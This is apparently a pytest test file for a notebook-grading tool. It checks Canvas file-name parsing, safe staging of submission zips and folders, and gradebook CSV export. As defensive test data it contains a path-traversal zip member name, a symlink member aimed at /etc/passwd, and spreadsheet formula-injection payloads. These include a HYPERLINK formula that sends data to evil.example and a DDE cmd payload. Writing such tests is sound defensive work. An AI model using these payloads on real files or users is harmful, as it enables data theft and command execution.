"""Canvas both ways: a "Download Submissions" zip or folder graded as a class, the points filled into the
gradebook CSV Canvas exports. Files are named the way Canvas names them."""
from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import grading_fixture as fx
from bnlab.grading.grade.canvas import CanvasError, fill_gradebook, parse_name, staged_submissions

CLI = [sys.executable, "-m", "bnlab.cli"]
COURSE = ["--course", str(Path(fx.__file__))]
WRONG_DOUBLE = "# GRADED FUNCTION: double\ndef double(x):\n    return 3 * x\n"


def _notebook_bytes(tmp_path: Path, cells: list[str]) -> bytes:
    return fx.notebook(tmp_path / "scratch" / "nb.ipynb", cells).read_bytes()


def test_canvas_file_names_are_read_with_the_late_marker():
    on_time = parse_name("smithjane_12345_67890_ex01_batchnorm_forward.ipynb")
    assert (on_time.student, on_time.user_id, on_time.late, on_time.file) == \
        ("smithjane_12345", "12345", False, "ex01_batchnorm_forward.ipynb")
    late = parse_name("doejohn_LATE_555_777_ex02_batchnorm_backward-1.ipynb")  # -1: Canvas' resubmission suffix
    assert (late.student, late.late, late.file) == ("doejohn_555", True, "ex02_batchnorm_backward-1.ipynb")
    assert parse_name("leeann_42_ex01_x.ipynb").file == "ex01_x.ipynb"  # exports without a submission id
    assert parse_name(".hidden_42_1_ex01.ipynb").student == "hidden_42"  # a name never makes a hidden folder
    assert parse_name("ex01_batchnorm_forward.ipynb") is None


def _canvas_zip(tmp_path: Path) -> Path:
    right, wrong = _notebook_bytes(tmp_path, [fx.DOUBLE_CELL]), _notebook_bytes(tmp_path, [WRONG_DOUBLE])
    pair = _notebook_bytes(tmp_path, fx.PAIR_CELLS)
    path = tmp_path / "submissions.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("smithjane_101_9001_ex01_double.ipynb", right)
        zf.writestr("smithjane_101_9001_ex02_pair.ipynb", pair)
        zf.writestr("doejohn_LATE_102_9002_ex01_double.ipynb", wrong)
        zf.writestr("leeann_103_9003_ex02_pair-1.ipynb", pair)
        zf.writestr("../../escape_104_9004_ex01_double.ipynb", right)  # a crafted name stays inside the staging
        link = zipfile.ZipInfo("linky_105_9005_ex01_double.ipynb")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/passwd")  # a symbolic link member is not extracted
        zf.writestr("smithjane_101_9001_notes.txt", "not a notebook")
    return path


def test_a_canvas_zip_is_graded_by_canvas_id_with_late_recorded(tmp_path):
    out = tmp_path / "out"
    result = subprocess.run(CLI + ["grade", str(_canvas_zip(tmp_path)), "--out", str(out), *COURSE, "--jobs", "2"],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    rows = {r["student"]: r for r in csv.DictReader((out / "grades.csv").open())}
    assert set(rows) == {"smithjane_101", "doejohn_102", "leeann_103", "escape_104"}
    assert float(rows["smithjane_101"]["total"]) == 6 and float(rows["doejohn_102"]["total"]) == 0
    assert float(rows["leeann_103"]["ex02"]) == 2 and float(rows["escape_104"]["ex01"]) == 4
    manifest = {r["student"]: r for r in csv.DictReader((out / "canvas.csv").open())}
    assert manifest["doejohn_102"]["late"] == "yes" and manifest["smithjane_101"]["late"] == "no"
    assert manifest["leeann_103"]["canvas_id"] == "103"
    assert not (tmp_path.parent / "escape_104_9004_ex01_double.ipynb").exists()
    # titled with the name in Canvas' file names, not the staging folder
    assert (out / "students" / "doejohn_102" / "feedback.md").read_text().startswith("# Feedback for doejohn\n")


def test_a_flat_canvas_folder_never_follows_a_symbolic_link(tmp_path):
    download = tmp_path / "download"
    download.mkdir()
    (download / "smithjane_101_9001_ex01_double.ipynb").write_bytes(_notebook_bytes(tmp_path, [fx.DOUBLE_CELL]))
    outside = fx.notebook(tmp_path / "elsewhere" / "secret.ipynb", [fx.DOUBLE_CELL])
    os.symlink(outside, download / "eve_666_1_ex01_double.ipynb")
    with staged_submissions(download, tmp_path / "out") as folder:
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700  # private to the grader's user
        assert sorted(p.name for p in folder.iterdir()) == ["smithjane_101"]
        staged = folder / "smithjane_101" / "ex01_double.ipynb"
        assert staged.is_file() and not staged.is_symlink()
    assert not folder.exists()  # removed afterwards


def test_a_file_canvas_did_not_name_is_a_usage_error(tmp_path):
    download = tmp_path / "download"
    download.mkdir()
    (download / "smithjane_101_9001_ex01_double.ipynb").write_bytes(_notebook_bytes(tmp_path, [fx.DOUBLE_CELL]))
    (download / "ex01_double.ipynb").write_bytes(_notebook_bytes(tmp_path, [fx.DOUBLE_CELL]))
    result = subprocess.run(CLI + ["grade", str(download), "--out", str(tmp_path / "out"), *COURSE],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2 and "ex01_double.ipynb" in result.stderr and "Canvas" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    broken = tmp_path / "broken.zip"
    broken.write_bytes(b"not a zip")
    result = subprocess.run(CLI + ["grade", str(broken), "--out", str(tmp_path / "out2"), *COURSE],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2 and "not a readable zip" in result.stderr


GRADEBOOK = ("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Batch Norm (12345),Quiz 1 (222),Current Points\r\n"
             "    Points Possible,,,,,6.00,10.00,(read only)\r\n"
             '"Smith, Jane",101,S101,jsmith,Section A,,7.00,7.00\r\n'
             '"Doe, John",102,S102,jdoe,Section A,,8.00,8.00\r\n'
             '"Nobody, Ann",199,S199,anobody,Section B,,9.00,9.00\r\n')


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_points_fill_the_assignment_column_of_the_gradebook_export(tmp_path):
    gradebook = tmp_path / "export.csv"
    gradebook.write_bytes(GRADEBOOK.encode())
    text, summary = fill_gradebook(gradebook, {"101": 6.0, "102": 2.5, "300": 1.0}, 6.0, "12345")
    rows = _read(text)
    assert text.startswith("\ufeff") and rows[0] == _read(GRADEBOOK)[0] and rows[1] == _read(GRADEBOOK)[1]
    assert [r[5] for r in rows[2:]] == ["6", "2.5", ""]  # Ann has no submission: left as it was
    assert [r[6] for r in rows[2:]] == ["7.00", "8.00", "9.00"]  # other assignments untouched
    assert summary.filled == 2 and summary.not_graded == ["Nobody, Ann"] and summary.not_in_gradebook == ["300"]
    with pytest.raises(CanvasError, match="several assignment columns"):
        fill_gradebook(gradebook, {"101": 6.0}, 6.0)
    with pytest.raises(CanvasError, match="worth 10 points in Canvas but bnlab grades out of 6"):
        fill_gradebook(gradebook, {"101": 6.0}, 6.0, "Quiz 1")
    scaled, _ = fill_gradebook(gradebook, {"101": 3.0}, 6.0, "Quiz 1", scale=True)
    assert _read(scaled)[2][6] == "5"


def test_export_canvas_end_to_end_from_a_graded_download(tmp_path):
    out = tmp_path / "out"
    graded = subprocess.run(CLI + ["grade", str(_canvas_zip(tmp_path)), "--out", str(out), *COURSE],
                            capture_output=True, text=True, timeout=120)
    assert graded.returncode == 0, graded.stderr
    gradebook = tmp_path / "export.csv"
    gradebook.write_bytes(GRADEBOOK.encode())
    filled = tmp_path / "import.csv"
    command = CLI + ["export", "canvas", "--grades", str(out), "--gradebook", str(gradebook), "--out", str(filled),
                     "--assignment", "Batch Norm"]
    result = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    rows = _read(filled.read_text(encoding="utf-8"))
    assert [(r[1], r[5]) for r in rows[2:]] == [("101", "6"), ("102", "0"), ("199", "")]
    assert "Nobody, Ann" in result.stderr and "103" in result.stderr  # both ways of not matching are named
    again = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert again.returncode == 2 and "exists" in again.stderr  # never overwrites


# --- every CSV bnlab writes is spreadsheet-safe ------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "'quoted"]


def test_the_one_csv_writer_escapes_formulas_and_reads_back_what_it_was_given():
    from bnlab.grading.grade.spreadsheet import csv_text, read_rows, spreadsheet_safe

    assert [spreadsheet_safe(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert [spreadsheet_safe(n) for n in ("-1.5", "+2", "3e-4", "Smith, Jane", "")] == ["-1.5", "+2", "3e-4",
                                                                                       "Smith, Jane", ""]
    header, rows = read_rows(csv_text([["a", "b"], *([f, f"{i}"] for i, f in enumerate(FORMULAS))]))
    assert header == ["a", "b"] and [r["a"] for r in rows] == FORMULAS  # the apostrophe is undone on reading


def test_no_module_of_bnlab_writes_csv_but_through_the_one_writer():
    package = Path(__file__).resolve().parents[1] / "bnlab"
    writers = [str(p.relative_to(package)) for p in package.rglob("*.py")
               if any(w in p.read_text(encoding="utf-8") for w in ("csv.writer", "DictWriter"))]
    assert writers == ["grading/grade/spreadsheet.py"]


def _first_cells(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))]


def test_grades_csv_canvas_csv_and_the_filled_gradebook_escape_every_learner_or_canvas_text(tmp_path):
    from bnlab.grading.grade.canvas import CanvasFile, manifest_csv
    from bnlab.grading.grade.gradebook import grades_csv

    states = [{"student": f, "points": {"ex01": 1}, "total": 1, "max_total": 4} for f in FORMULAS]
    assert sorted(_first_cells(grades_csv(states, ["ex01"]))[1:]) == sorted("'" + f for f in FORMULAS)
    staged = [(CanvasFile("smithjane_101", "101", "-smithjane", False, f), f) for f in ("ex01_x.ipynb", FORMULAS[0])]
    (row,) = list(csv.DictReader(io.StringIO(manifest_csv(staged))))
    assert row["files"] == "'" + FORMULAS[0] + "; ex01_x.ipynb" and row["name"] == "'-smithjane"
    gradebook = tmp_path / "export.csv"
    gradebook.write_bytes(GRADEBOOK.replace('"Doe, John"', '"=cmd|\' /C calc\'!A0"').replace("8.00,8.00", "-1.50,8.00")
                          .encode())
    text, _ = fill_gradebook(gradebook, {"101": 6.0}, 6.0, "12345")
    rows = _read(text)
    assert rows[3][0] == "'=cmd|' /C calc'!A0" and rows[3][6] == "-1.50"  # text escaped, numbers left as numbers
    assert rows[2][5] == "6" and rows[1][0] == "    Points Possible"


# --- Canvas from any OUT: folders per student, matched by SIS Login ID, Canvas id or a roster -------

ROSTER = 'folder,id,sis_login_id,name\njsmith,101,jsmith,"Smith, Jane"\nJDoe,102,jdoe,"Doe, John"\n'
ANY_GRADEBOOK = GRADEBOOK + '"Kept, Ken",198,S198,kken,Section B,5.00,1.00,1.00\r\n'


@pytest.fixture(scope="module")
def graded_folders(tmp_path_factory):
    """A class collected one folder per student (as on JupyterHub), named by SIS Login ID, graded with a roster."""
    tmp = tmp_path_factory.mktemp("folders")
    submissions, out = tmp / "submissions", tmp / "out"
    fx.notebook(submissions / "jsmith" / "ex01_double.ipynb", [fx.DOUBLE_CELL])
    fx.notebook(submissions / "jsmith" / "ex02_pair.ipynb", fx.PAIR_CELLS)
    fx.notebook(submissions / "JDoe" / "ex01_double.ipynb", [WRONG_DOUBLE])
    fx.notebook(submissions / "carol" / "ex02_pair.ipynb", fx.PAIR_CELLS)  # not in the roster
    (tmp / "roster.csv").write_text(ROSTER)
    (tmp / "export.csv").write_bytes(ANY_GRADEBOOK.encode())
    result = subprocess.run(CLI + ["grade", str(submissions), "--out", str(out), "--roster", str(tmp / "roster.csv"),
                                   *COURSE, *fx.jail_flags()], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return tmp


def _export(tmp: Path, name: str, *options: str):
    filled = tmp / name
    result = subprocess.run(CLI + ["export", "canvas", "--grades", str(tmp / "out"), "--gradebook",
                                   str(tmp / "export.csv"), "--out", str(filled), "--assignment", "12345", *options],
                            capture_output=True, text=True, timeout=60)
    rows = _read(filled.read_text(encoding="utf-8")) if filled.exists() else []
    return result, [(r[1], r[5]) for r in rows[2:]]


def test_feedback_of_a_rostered_class_is_titled_with_the_students_names(graded_folders):
    students = graded_folders / "out" / "students"
    assert (students / "jsmith" / "feedback.md").read_text().startswith("# Feedback for Smith, Jane\n")
    assert "<title>Feedback for Doe, John</title>" in (students / "JDoe" / "feedback.html").read_text()
    assert (students / "carol" / "feedback.md").read_text().startswith("# Feedback for carol\n")  # no name: folder


def test_export_canvas_matches_folders_named_by_sis_login_id_and_can_write_zero_for_the_missing(graded_folders):
    result, cells = _export(graded_folders, "by_login.csv", "--match", "sis_login_id")
    assert result.returncode == 0, result.stderr
    assert cells == [("101", "6"), ("102", "0"), ("199", ""), ("198", "5.00")]  # JDoe is jdoe: logins ignore case
    assert "carol" in result.stderr and "Nobody, Ann" in result.stderr and "--missing-zero" in result.stderr
    result, cells = _export(graded_folders, "zeros.csv", "--match", "sis_login_id", "--missing-zero")
    assert result.returncode == 0, result.stderr
    assert cells == [("101", "6"), ("102", "0"), ("199", "0"), ("198", "5.00")]  # a grade already there is kept
    assert "got 0" in result.stderr and "Nobody, Ann" in result.stderr


def test_export_canvas_through_a_roster_by_canvas_id(graded_folders):
    result, _ = _export(graded_folders, "ambiguous.csv", "--roster", str(graded_folders / "roster.csv"))
    assert result.returncode == 2 and "--match" in result.stderr and len(result.stderr.splitlines()) == 1
    result, cells = _export(graded_folders, "by_id.csv", "--roster", str(graded_folders / "roster.csv"),
                            "--match", "id")
    assert result.returncode == 0, result.stderr
    assert cells == [("101", "6"), ("102", "0"), ("199", ""), ("198", "5.00")]
    assert "1 graded folders are not in the roster (not exported): carol" in result.stderr


def test_export_canvas_from_folders_says_how_to_match_and_what_a_roster_lacks(graded_folders):
    result, _ = _export(graded_folders, "none.csv")
    assert result.returncode == 2 and "not graded from a Canvas download" in result.stderr
    assert "--roster" in result.stderr and "--match" in result.stderr and not (graded_folders / "none.csv").exists()
    bad = graded_folders / "bad_roster.csv"
    bad.write_text("student,login\njsmith,jsmith\n")
    result, _ = _export(graded_folders, "bad.csv", "--roster", str(bad))
    assert result.returncode == 2 and "needs a header with the columns folder and one of id" in result.stderr
    bad.write_text("folder,name\njsmith,Jane\n")  # enough to name feedback, not to match the gradebook
    result, _ = _export(graded_folders, "bad.csv", "--roster", str(bad))
    assert result.returncode == 2 and "has no column to match the gradebook by" in result.stderr
    bad.write_text("folder,id\njsmith,j101\n")
    result, _ = _export(graded_folders, "bad.csv", "--roster", str(bad))
    assert result.returncode == 2 and "row 2: id 'j101' is not a Canvas user id" in result.stderr


def test_the_canvas_gradebook_export_names_the_students_of_a_canvas_download(tmp_path):
    gradebook, out = tmp_path / "export.csv", tmp_path / "out"
    gradebook.write_bytes(GRADEBOOK.encode())
    result = subprocess.run(CLI + ["grade", str(_canvas_zip(tmp_path)), "--out", str(out), "--roster", str(gradebook),
                                   *COURSE, *fx.jail_flags()], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    students = out / "students"
    assert "<h1>Feedback for Smith, Jane</h1>" in (students / "smithjane_101" / "feedback.html").read_text()
    assert (students / "doejohn_102" / "feedback.md").read_text().startswith("# Feedback for Doe, John\n")
    assert (students / "leeann_103" / "feedback.md").read_text().startswith("# Feedback for leeann\n")  # not in it


def test_a_roster_of_folders_and_names_is_enough_to_title_feedback(tmp_path):
    from bnlab.grading.grade.canvas import student_names
    from bnlab.grading.grade.roster import read_roster

    path = tmp_path / "roster.csv"
    path.write_text('\ufeffFolder , Name\njsmith,"Smith, Jane"\nalee, Ann Lee \n', encoding="utf-8")  # as Excel saves
    roster = read_roster(path)
    assert roster.keys == () and student_names(tmp_path, roster, ["jsmith", "alee", "zed"]) == \
        {"jsmith": "Smith, Jane", "alee": "Ann Lee"}
